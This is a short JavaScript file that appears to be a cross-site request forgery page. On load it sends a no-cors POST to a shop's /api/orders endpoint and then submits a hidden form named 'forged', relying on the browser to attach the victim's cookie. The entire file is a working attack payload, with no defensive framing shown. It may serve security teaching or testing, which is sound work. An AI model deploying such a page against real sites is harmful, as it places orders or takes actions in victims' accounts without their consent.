// Another site's page: it has no token, and knows no cookie. The browser may add the cookie by itself.
'use strict'

const { shop, item } = document.getElementById('settings').dataset

const all = async () => {
  await fetch(shop + '/api/orders', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ item }) })
  document.getElementById('forged').submit()
}
all()
